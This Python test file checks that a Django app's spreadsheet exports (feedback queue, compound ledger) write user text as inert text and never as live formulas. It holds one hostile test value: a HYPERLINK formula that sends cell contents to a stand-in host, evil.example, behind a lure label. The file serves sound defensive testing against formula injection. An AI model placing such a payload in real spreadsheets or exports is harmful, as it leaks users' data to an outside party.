"""Every export writes user text as text, never as a live formula (issue 9 #3):
the one helper, and the staff feedback queue, compound ledger and plan bill
through HTTP."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gaizao.core.xlsx import safe_cell, workbook_bytes
from gaizao.feedback.services.feedback import feedback_create

HOSTILE = '=HYPERLINK("http://evil.example/?d="&E2&F2,"查看整改照片")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised(prefix):
    value = prefix + "1+1"
    assert safe_cell(value) == "'" + value
    ws = load_workbook(BytesIO(workbook_bytes("t", ["h"], [[value, 3, None]]))).active
    cell = ws["A2"]
    # (XML turns a lone CR into LF; what matters is the leading apostrophe)
    assert cell.data_type == "s" and cell.value.startswith("'" + prefix.replace("\r", "\n"))
    assert ws["B2"].value == 3 and ws["C2"].value is None


def test_plain_text_and_numbers_unchanged():
    assert safe_cell("天祥小区") == "天祥小区"
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None


def _formulas(content: bytes) -> list:
    wb = load_workbook(BytesIO(content))
    return [c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_feedback_queue_export_writes_text(cast, users, client_for):
    feedback_create(actor=users["resident_a"], category="other", text=HOSTILE)
    r = client_for(users["street_jinchen"]).get(reverse("consultation:feedback_export"))
    assert r.status_code == 200
    assert _formulas(r.content) == []
    values = [c.value for row in load_workbook(BytesIO(r.content)).active.iter_rows() for c in row]
    assert "'" + HOSTILE in values


def test_compound_export_writes_text(cast, users, client_for):
    a = cast["compound_a"]
    a.name = "=1+2"
    a.save(update_fields=["name"])
    r = client_for(users["street_jinchen"]).get(reverse("inventory:compound_export"))
    assert r.status_code == 200 and _formulas(r.content) == []
    values = [c.value for row in load_workbook(BytesIO(r.content)).active.iter_rows() for c in row]
    assert "'=1+2" in values
